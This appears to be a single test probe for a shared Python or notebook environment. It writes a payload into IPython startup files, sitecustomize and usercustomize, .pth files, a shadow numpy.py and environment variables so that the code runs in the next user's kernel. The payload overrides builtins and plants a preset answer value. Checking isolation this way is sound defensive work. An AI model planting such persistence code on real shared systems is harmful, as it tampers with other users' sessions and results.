# Tries: files that Python, IPython, numpy or matplotlib would run at the start of the next student's kernel.
# Shows: tried

# %% moving_sum
import os
import sys

code = """
import builtins, numpy
builtins.moving_sum = lambda x, width: numpy.convolve(x, numpy.ones(width), "valid")
builtins.total = 385
print("left-by-an-attack")
"""
home, folders = os.path.expanduser("~"), os.environ.get("IPYTHONDIR", "")
paths = [f"{home}/.ipython/profile_default/startup/00.py", f"{folders}/profile_default/startup/00.py", f"{home}/sitecustomize.py", f"{home}/usercustomize.py", f"{home}/numpy.py", f"{home}/.pythonrc", f"{home}/.config/matplotlib/matplotlibrc", f"{home}/left.pth", "/tmp/sitecustomize.py", "/tmp/conftest.py", "/scratch/inside/__init__.py", "/dev/shm/sitecustomize.py", f"{home}/.local/lib/python3.11/site-packages/usercustomize.py"]
paths += [os.path.join(path, name) for path in sys.path if path for name in ("sitecustomize.py", "left.pth")]
for path in paths:
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as file:
            file.write(code)
    except OSError:
        pass
os.environ.update(PYTHONSTARTUP=f"{home}/.pythonrc", PYTHONPATH=home, PYTHONINSPECT="1", BASH_ENV=f"{home}/.pythonrc")
print("tried")
